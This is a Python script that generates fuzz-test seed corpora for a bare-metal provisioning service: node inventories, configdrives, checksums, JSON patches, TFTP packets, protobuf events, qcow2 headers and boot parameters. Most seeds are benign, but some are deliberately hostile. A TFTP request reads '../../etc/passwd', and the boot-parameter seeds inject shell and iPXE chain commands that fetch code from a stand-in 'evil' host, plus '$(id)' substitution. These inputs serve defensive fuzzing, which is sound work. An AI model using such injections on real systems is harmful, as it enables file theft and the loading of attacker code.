#!/usr/bin/env python3
"""Writes the seed corpora under fuzz/corpus/<target>/ (run from the repository root).

The committed files are the corpus; this script documents how they were made and rebuilds
them. Each fuzz test replays its target's directory plus seeded mutations of every entry.
"""
import base64, gzip, hashlib, io, json, os, struct, uuid

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")


def put(target, name, data):
    d = os.path.join(ROOT, target)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    elif not isinstance(data, (bytes, bytearray)):
        data = json.dumps(data, indent=1).encode()
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


# --- inventory: what the agent posts to /v1/continue_inspection -------------------------
def inventory(n_if=2, disks=2, bmc="10.0.0.5", extra=None):
    inv = {
        "interfaces": [
            {"name": f"eth{i}", "mac_address": f"52:54:00:12:34:{i:02x}",
             "ipv4_address": f"192.0.2.{10 + i}", "ipv6_address": None,
             "has_carrier": True, "lldp": None, "vendor": "0x8086", "product": "0x1572",
             "client_id": None, "biosdevname": None, "speed_mbps": 10000}
            for i in range(n_if)
        ],
        "cpu": {"model_name": "Intel(R) Xeon(R) Gold 6230 CPU @ 2.10GHz", "frequency": "2100.0000",
                "count": 40, "architecture": "x86_64", "flags": ["fpu", "vmx", "sse4_2"]},
        "disks": [
            {"name": f"/dev/sd{chr(97 + i)}", "model": "SAMSUNG MZ7LH960", "size": 960197124096,
             "rotational": False, "wwn": f"0x5002538e0000000{i}", "serial": f"S45NNE0M0000{i}",
             "vendor": "ATA", "wwn_with_extension": None, "wwn_vendor_extension": None,
             "hctl": f"{i}:0:0:0", "by_path": f"/dev/disk/by-path/pci-0000:00:17.0-ata-{i + 1}"}
            for i in range(disks)
        ],
        "memory": {"total": 202779783168, "physical_mb": 196608},
        "bmc_address": bmc, "bmc_v6address": "::/0", "bmc_mac": "ac:1f:6b:00:00:01",
        "system_vendor": {"product_name": "SYS-1029U-TRT", "serial_number": "S123",
                          "manufacturer": "Supermicro",
                          "firmware": {"vendor": "American Megatrends", "version": "3.4",
                                       "build_date": "10/21/2020"}},
        "boot": {"current_boot_mode": "uefi", "pxe_interface": "52:54:00:12:34:00"},
        "hostname": "localhost.localdomain",
    }
    if extra:
        inv.update(extra)
    return inv

put("inventory", "ipa_full.json", {"inventory": inventory(), "root_disk": {"name": "/dev/sda"},
                                   "boot_interface": "52:54:00:12:34:00",
                                   "configuration": {"collectors": ["default", "logs"]}})
put("inventory", "ipa_minimal.json", {"inventory": {"interfaces": [{"mac_address": "52:54:00:aa:bb:cc"}]}})
put("inventory", "bios_no_bmc.json", {"inventory": inventory(1, 1, bmc=None, extra={"boot": {"current_boot_mode": "bios"}})})
put("inventory", "many_nics_nvme.json", {"inventory": inventory(6, 0, extra={"disks": [
    {"name": "/dev/nvme0n1", "size": 3840755982336, "rotational": False, "model": "Dell Ent NVMe"},
    {"name": "/dev/nvme1n1", "size": 0, "rotational": False}]})})
put("inventory", "odd_types.json", {"inventory": {"interfaces": [{"mac_address": 5}], "memory": {"physical_mb": "lots"},
                                                  "cpu": {"count": -1, "architecture": None}, "disks": {"x": 1},
                                                  "bmc_address": 17}})
put("inventory", "no_interfaces.json", {"inventory": {"interfaces": []}, "extra": [1, 2]})
put("inventory", "bare_inventory.json", inventory(1, 1))
put("inventory", "lldp.json", {"inventory": inventory(1, 1, extra={"interfaces": [
    {"name": "eth0", "mac_address": "52:54:00:00:00:01",
     "lldp": [[1, "04885a92ec5459"], [2, "0545746865726e6574312f3138"], [3, "0078"]]}]})})

# --- configdrive: the configdrive of provision requests ---------------------------------
meta = {"uuid": str(uuid.UUID(int=1)), "hostname": "node-1", "name": "node-1",
        "public_keys": {"k": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI test"}}
netdata = {"links": [{"id": "eth0", "type": "phy", "ethernet_mac_address": "52:54:00:12:34:00"}],
           "networks": [{"id": "n0", "link": "eth0", "type": "ipv4_dhcp"}], "services": []}
put("configdrive", "object_full.json", {"target": "active", "configdrive": {
    "meta_data": meta, "user_data": "#cloud-config\npackages: [htop]\n",
    "network_data": netdata, "vendor_data": {"cloud-init": "#cloud-config\n"}}})
put("configdrive", "object_meta_only.json", {"configdrive": {"meta_data": {"uuid": "x"}}})
put("configdrive", "object_user_data_dict.json", {"configdrive": {"user_data": {"a": [1, 2, 3]}}})
put("configdrive", "object_bad_key.json", {"configdrive": {"meta_data": {}, "extra": 1}})
iso_like = b"\x00" * 32768 + b"\x01CD001\x01\x00" + b"config-2".ljust(32) + b"\x00" * 200
gz = io.BytesIO()
with gzip.GzipFile(fileobj=gz, mode="wb", mtime=0) as g:
    g.write(iso_like)
put("configdrive", "string_gzip_base64.json", {"configdrive": base64.b64encode(gz.getvalue()).decode()})
put("configdrive", "string_base64_plain.json", {"configdrive": base64.b64encode(b"not an iso").decode()})
put("configdrive", "string_url.json", {"configdrive": "http://203.0.113.1/configdrive.iso.gz"})
put("configdrive", "null.json", {"configdrive": None})
put("configdrive", "number.json", {"configdrive": 12})
put("configdrive", "raw_gzip.bin", gz.getvalue())

# --- checksum: checksum files in the forms Ironic accepts -------------------------------
d256 = hashlib.sha256(b"image").hexdigest()
d512 = hashlib.sha512(b"image").hexdigest()
dmd5 = hashlib.md5(b"image").hexdigest()
put("checksum", "bare_sha256.txt", d256 + "\n")
put("checksum", "sha256sum.txt", f"{d256}  image.qcow2\n{hashlib.sha256(b'k').hexdigest()}  vmlinuz\n")
put("checksum", "sha256sum_binary.txt", f"{d256} *image.qcow2\n")
put("checksum", "sha512sums.txt", f"# SHA512SUMS\n\n{d512}  ubuntu.img\n{d512}  image.qcow2\n")
put("checksum", "bsd_style.txt", f"SHA256 (image.qcow2) = {d256}\nSHA512 (ubuntu.img) = {d512}\n")
put("checksum", "md5sum.txt", f"{dmd5}  image.qcow2\n")
put("checksum", "crlf.txt", f"{d256}  image.qcow2\r\n{d256}  other\r\n")
put("checksum", "ironic_fields.txt", f"sha256\n{d256}\nhttp://203.0.113.1/SHA256SUMS\n")
put("checksum", "no_match.txt", f"{d256}  other.img\n")

# --- json_patch: JSON Patch documents for nodes and ports -------------------------------
patches = {
    "driver_info.json": [{"op": "add", "path": "/driver_info/ipmi_password", "value": "x"},
                         {"op": "replace", "path": "/driver_info/ipmi_address", "value": "10.0.0.1"}],
    "remove_and_test.json": [{"op": "test", "path": "/name", "value": None},
                             {"op": "remove", "path": "/extra/a"}],
    "move_copy.json": [{"op": "move", "from": "/extra/a", "path": "/extra/b"},
                       {"op": "copy", "from": "/properties", "path": "/extra/p"}],
    "escapes.json": [{"op": "add", "path": "/extra/a~1b~0c", "value": {"deep": [1, {"x": None}]}}],
    "interfaces.json": [{"op": "replace", "path": "/deploy_interface", "value": "direct"},
                        {"op": "add", "path": "/traits/-", "value": "CUSTOM_X"}],
    "port.json": [{"op": "replace", "path": "/address", "value": "52:54:00:12:34:57"},
                  {"op": "add", "path": "/local_link_connection/switch_id", "value": "aa:bb:cc:dd:ee:ff"}],
    "root_ops.json": [{"op": "replace", "path": "", "value": {}}, {"op": "remove", "path": "/"}],
    "bad_ops.json": [{"op": "frobnicate", "path": "/name"}, {"path": "/x"}, {}],
}
for name, p in patches.items():
    put("json_patch", name, p)

# --- request_body: request bodies against the depth check and the create bodies ---------
put("request_body", "node_create.json", {"name": "node-1", "driver": "redfish", "driver_info": {
    "redfish_address": "https://10.0.0.1", "redfish_username": "admin", "redfish_password": "p"},
    "properties": {"cpu_arch": "x86_64", "root_device": {"serial": "S1"}}, "resource_class": "baremetal"})
put("request_body", "port_create.json", {"address": "52:54:00:12:34:56", "node_uuid": str(uuid.UUID(int=2)),
                                          "pxe_enabled": True, "local_link_connection": {"port_id": "Eth1"}})
put("request_body", "provision.json", {"target": "clean", "clean_steps": [
    {"interface": "deploy", "step": "erase_devices_metadata", "args": {}}]})
put("request_body", "deep.json", "[" * 30 + "1" + "]" * 30)
put("request_body", "strings_with_brackets.json", {"a": "[[[[{{{{\"\\\\", "b": [[["]]]"]]]})
put("request_body", "unicode.json", {"name": "n\u00f6de-\u65e5\u672c", "extra": {"\u2603": "\ud83d\ude00"}})

# --- node_query: node list query strings -------------------------------------------------
for i, q in enumerate([
    "limit=10&marker=00000000-0000-0000-0000-000000000001&sort_key=name&sort_dir=desc",
    "provision_state=active&maintenance=true&detail=True&fields=uuid,name,driver_info",
    "owner=p1&lessee=p2&resource_class=baremetal&fault=power%20failure&associated=false",
    "conductor_group=a&shard=s1&sharded=true&retired=false&include_children=true&parent_node=n1",
    "description_contains=%E2%98%83&instance_uuid=abc&limit=0&limit=1001",
    "sort_key=provision_updated_at&sort_dir=sideways&fields=",
]):
    put("node_query", f"query_{i}.txt", q)

# --- tftp_packet: datagrams ----------------------------------------------------------------
def rrq(name, mode=b"octet", opts=()):
    b = struct.pack(">H", 1) + name + b"\0" + mode + b"\0"
    for k, v in opts:
        b += k + b"\0" + v + b"\0"
    return b

put("tftp_packet", "rrq_plain.bin", rrq(b"pxelinux.0"))
put("tftp_packet", "rrq_options.bin", rrq(b"undionly.kpxe", opts=[(b"blksize", b"1468"), (b"tsize", b"0"), (b"timeout", b"3")]))
put("tftp_packet", "rrq_windowsize.bin", rrq(b"ipxe.efi", opts=[(b"blksize", b"65464"), (b"windowsize", b"64")]))
put("tftp_packet", "rrq_netascii.bin", rrq(b"pxelinux.cfg/01-52-54-00-12-34-56", mode=b"netascii"))
put("tftp_packet", "rrq_grub_abs.bin", rrq(b"/grub/grub.cfg-01-52-54-00-12-34-56", mode=b"OCTET"))
put("tftp_packet", "rrq_traversal.bin", rrq(b"../../etc/passwd"))
put("tftp_packet", "wrq.bin", struct.pack(">H", 2) + b"up.bin\0octet\0")
put("tftp_packet", "data.bin", struct.pack(">HH", 3, 1) + b"\x7fELF" + b"\0" * 100)
put("tftp_packet", "ack.bin", struct.pack(">HH", 4, 65535))
put("tftp_packet", "error.bin", struct.pack(">HH", 5, 1) + b"File not found\0")
put("tftp_packet", "oack.bin", struct.pack(">H", 6) + b"blksize\x001468\0tsize\x00123456\0")
put("tftp_packet", "rrq_bad_option.bin", rrq(b"f", opts=[(b"blksize", b"7"), (b"windowsize", b"0"), (b"utimeout", b"100000")]))

# --- bus_event: protobuf-encoded events ---------------------------------------------------
def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])

def field(num, val):
    if isinstance(val, int):
        return varint(num << 3) + varint(val)
    if isinstance(val, str):
        val = val.encode()
    return varint((num << 3) | 2) + varint(len(val)) + val

def event(payload_num, payload):
    return (field(1, str(uuid.UUID(int=3))) + field(2, str(uuid.UUID(int=4)))
            + field(3, "req-" + str(uuid.UUID(int=5))) + field(4, "2026-12-02T12:00:00Z")
            + field(payload_num, payload))

put("bus_event", "provision_requested.bin", event(10, field(1, "active") + field(2, "deploy") + field(3, "available") + field(4, "deploying")))
put("bus_event", "power_requested.bin", event(11, field(1, "power on") + field(2, 30)))
put("bus_event", "agent_heartbeat.bin", event(12, field(1, "http://192.0.2.10:9999") + field(2, "1.0") + field(3, "wait call-back")))
put("bus_event", "state_changed.bin", event(13, field(1, "active") + field(2, "")))
put("bus_event", "deploy_progressed.bin", event(14, field(1, 1 << 33) + field(2, 1 << 34) + field(3, 100 << 20) + field(4, "write") + field(5, "write_image") + field(6, 2) + field(7, 5)))
put("bus_event", "maintenance_changed.bin", event(15, field(1, 1)))
put("bus_event", "allocation_requested.bin", event(16, field(1, str(uuid.UUID(int=6)))))
put("bus_event", "management_requested.bin", event(17, field(1, "r1")))
put("bus_event", "empty_payload.bin", field(1, "e") + field(2, "n"))

# --- qcow2: headers --------------------------------------------------------------------------
def qcow2(version=3, cluster_bits=16, size=1 << 30, backing=b"", l1_size=None, ext=b""):
    l1_size = l1_size if l1_size is not None else max(1, size >> (cluster_bits * 2 - 3))
    hdr_len = 104 if version >= 3 else 72
    backing_off = hdr_len + len(ext) + 8 if backing else 0
    h = struct.pack(">IIQIIQIIQQIIQ", 0x514649FB, version, backing_off, len(backing), cluster_bits,
                    size, 0, l1_size, 3 << cluster_bits, 1 << cluster_bits, 1, 0, 0)
    if version >= 3:
        h += struct.pack(">QQQII", 0, 0, 0, 4, hdr_len)
    h += ext + struct.pack(">II", 0, 0)  # end of extensions
    h += backing
    return h.ljust(1 << 12, b"\0")

put("qcow2", "v3_64k.bin", qcow2())
put("qcow2", "v2_64k.bin", qcow2(version=2))
put("qcow2", "v3_4k_small.bin", qcow2(cluster_bits=12, size=1 << 20))
put("qcow2", "v3_2m.bin", qcow2(cluster_bits=21, size=1 << 40))
put("qcow2", "v3_backing.bin", qcow2(backing=b"base.qcow2"))
put("qcow2", "v3_feature_ext.bin", qcow2(ext=struct.pack(">II", 0x6803F857, 48) + b"\0" * 48))
put("qcow2", "v3_huge_l1.bin", qcow2(l1_size=0xFFFFFFFF))
put("qcow2", "bad_magic.bin", b"QFI\xfa" + qcow2()[4:])

# --- boot_script: kernel parameters and kernel/ramdisk references that reach boot scripts --
for i, s in enumerate([
    "nofb vga=normal console=ttyS0,115200n8 ipa-debug=1",
    "ip=dhcp || shell ; chain http://evil/x #${x}",
    "rd.shell\nkernel http://evil/vmlinuz",
    "a='b' c=\"d\" e=\\f g=`h`",
    "http://203.0.113.1/deploy.kernel",
    "glance://deploy-ramdisk?x=1&y=$(id)",
]):
    put("boot_script", f"params_{i}.txt", s)
